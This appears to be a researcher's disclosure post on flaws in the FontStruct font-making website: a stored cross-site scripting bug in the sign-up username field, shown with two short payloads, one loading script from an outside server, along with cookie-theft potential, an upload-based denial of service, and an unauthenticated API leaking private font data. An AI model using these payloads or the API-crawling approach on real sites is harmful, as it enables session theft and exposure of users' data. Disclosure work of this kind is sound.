XSS dropped

The website FontStruct allows even novice users to create their own personal font from scratch. A very simplified procedure: you sign up and you are ready to compose your font. Everything is offered through a simple interface as a free service. Not bad for a free service!

Unfortunately, the developer who set up this service has not thought very well about security, repeatedly implementing stratagems that only work for some specific cases. In this article, I will write about the problems that allowed me to take part of the control of the frontend of the website and how I can obtain all the informations about a font and its user from a un-restricted API.

Reflected Cross Site Scripting XSS

I was looking for a good online service that could allow me to create my own personal font. At the expensive online alternatives, I see an excellent font composing service: Fontstruct. In the registration phase, as a username, I tried to insert a simple <script>alert("XSS");<script> : only a very small part of me thought it could manage to escape the filter.

Then, it workend! An alert prompted me the message “XSS”. Is it possible that the developer has not implemented any filters? Was I in front of a Cross-Site scripting injection?

XSS fun

Obviously yes, but I was not sure what I had discovered. The filters did not work at their best; although on some pages, sometimes, my username was escaped rather well, replacing the characters “<” “>” with lt; e gt;.

On the profile page for example, the attempt did not work, showing me the rude code I had written on the field username. I told myself that probably the vulnerability was not so big, they could have developed some types of strong filters. For example, I was hoping they had implemented the header to load scripts only from the fontstruct.com domain, avoiding running other scripts fromexternal domains. I was wrong.

I developed a simple Javascript to my server and tried to insert it in the username field as <script src="//myserver/script.js">. What happened? The web page could run any external script! Technically this vulnerability is called “Persistent Cross-Site Injection” since the Javascript was injected into database and then it’s persistent.

Cookie stealer, DOMmanipulation: I was ableto edit any element of my dashboard page. However, one thing I noticed was what if I commented and someone went to see the comment on the page “All activities”, the script injected could steal the user’s cookie or edit the user’s page.

Sign-up form

Self Denial of Service

By taking advantage of the field to upload the profile image and the limitations of the machine, it was possible to provoke a self-dos. The web server did not check if the upload file was actually an image or not. By uploading a large file (not a .png image), the machine rebooted the web server for a few minutes.

Unrestricted API

The font creation system is based on a JSON API which allows the “graphic editor” component, developed in Javascript, to build the font based on the information obtained.

In this case it can not be said that it is an oversight, but rather a rather serious security issue. Anyone (even unregistered) could call the API without any control, effectively getting all the information public and private. The method for obtaining all the informations for a font is the following:where NUMBER is the id of the font. By developing a simple crawler, an attacker could trace all the information, both public and private, of the fonts created.

Unrestricted API


Several times I have reported to the developer, not receiving any response – I have been contacting him since July. Since the 90-day deadline has expired, I am authorized to publish this post officially onmy site. UPDATE: The persistent XSS injection was correctlyfixed. I think they did not escape every parameters. The best solutionis blocking any javascript in the Sign-up page.